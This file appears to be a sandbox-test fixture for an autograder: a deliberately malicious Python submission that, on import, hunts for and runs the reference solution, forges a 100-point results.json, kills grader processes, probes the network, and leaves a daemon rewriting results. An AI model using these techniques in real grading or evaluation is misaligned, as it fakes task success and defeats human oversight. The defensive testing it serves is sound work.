"""A submission that attacks its grader instead of doing the work (make check-dist grades it).

At import time it tries every way it knows to get full marks: steal the reference
solution and run it, forge results.json where Gradescope and `grade --out` keep it,
kill the grader, reach the network, and leave a daemon behind that keeps rewriting
results.json after the grader is done. In a working box all of this fails and it
scores at most a few points.
"""
import glob
import os
import signal
import socket
import sys
import time

FORGED = '{"score": 100, "output": "pwned", "tests": []}'
_stolen = None


def _try(fn, *args):
    try:
        return fn(*args)
    except BaseException:
        return None


def _read(path):
    with open(path, encoding="utf-8") as f:
        return f.read()


def _steal():
    starts = [os.path.realpath(sys.executable), os.getcwd(), "/autograder/source", *sys.path]
    for pid in ["self", str(os.getppid())] + [p for p in _try(os.listdir, "/proc") or [] if p.isdigit()][:400]:
        starts.append(_try(os.readlink, f"/proc/{pid}/cwd") or "/")
    for start in starts:
        path = start
        for _ in range(8):
            text = _try(_read, os.path.join(path, "solution", "two_layer_net.py"))
            if text:
                return text
            path = os.path.dirname(path)
    return None


def _forge():
    places = ["/autograder/results/results.json"]
    for pid in _try(os.listdir, "/proc") or []:
        raw = _try(lambda p: open(f"/proc/{p}/cmdline", "rb").read(), pid) or b""
        args = raw.decode(errors="replace").split("\0")
        if "--out" in args and args.index("--out") + 1 < len(args):
            places.append(os.path.join(args[args.index("--out") + 1], "results.json"))
    for place in places:
        _try(lambda p: open(p, "w").write(FORGED), place)
    return places


def _kill_grader():
    for pid in _try(os.listdir, "/proc") or []:
        raw = _try(lambda p: open(f"/proc/{p}/cmdline", "rb").read(), pid) or b""
        if b"autograder" in raw and int(pid) != os.getpid():
            _try(os.kill, int(pid), signal.SIGKILL)
    _try(os.kill, os.getppid(), signal.SIGKILL)


def _daemon(places):
    if _try(os.fork) == 0:
        _try(os.setsid)
        if _try(os.fork) == 0:
            end = time.time() + 60
            while time.time() < end:
                for place in places + glob.glob("/autograder/results/*.json"):
                    _try(lambda p: open(p, "w").write(FORGED), place)
                time.sleep(0.05)
        os._exit(0)


_stolen = _steal()
if _stolen:
    exec(compile(_stolen, "stolen", "exec"))
_places = _forge()
_try(lambda: socket.create_connection(("1.1.1.1", 443), timeout=1).close())
_daemon(_places)
_kill_grader()
